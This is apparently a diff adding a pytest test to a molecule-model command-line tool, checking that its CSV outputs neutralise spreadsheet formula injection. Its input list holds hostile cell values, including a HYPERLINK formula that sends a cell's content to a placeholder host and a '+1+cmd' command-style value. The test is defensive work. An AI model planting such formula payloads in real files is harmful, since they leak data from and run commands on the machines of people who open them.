@@ -87,6 +87,24 @@ def test_preparing_refuses_what_the_gate_refuses(molvae: Molvae, tmp_path: Path)
         assert len(text) > MAX_LINE or codes.get(row, "ok") in allowed(text), text[:60]
 
 
+FORMULA = '=HYPERLINK("http://x.example?"&A1)'
+
+
+@pytest.mark.parametrize("command", [["score", "--objective", "qed"], ["check"], ["reconstruct"], ["encode"]])
+def test_a_formula_in_the_place_of_a_molecule_is_none_in_what_is_written(
+    molvae: Molvae, model_folder: Path, tmp_path: Path, command: list[str]
+) -> None:
+    source, out = tmp_path / "formulas.csv", tmp_path / "out.csv"
+    write(source, ["CCO", FORMULA, "@SUM(A1)", "+1+cmd", "\t=1"])
+    name, *options = command
+    model = [] if name == "score" else ["-m", str(model_folder)]
+    CliRunner().invoke(cli, [name, str(source), *options, *model, "-o", str(out)])
+    with out.open(newline="", encoding="utf-8") as stream:
+        cells = [cell for row in csv.reader(stream) for cell in row]
+    assert len(cells) > 5
+    assert [cell for cell in cells if cell[:1] in tuple("=+@\t") or cell.startswith("-1+")] == []
+
+
 COMMANDS: dict[str, list[str]] = {
     "encode": ["encode", "{file}", "-o", "{out}.npz", "-m", "{model}"],
     "reconstruct": ["reconstruct", "{file}", "-m", "{model}"],
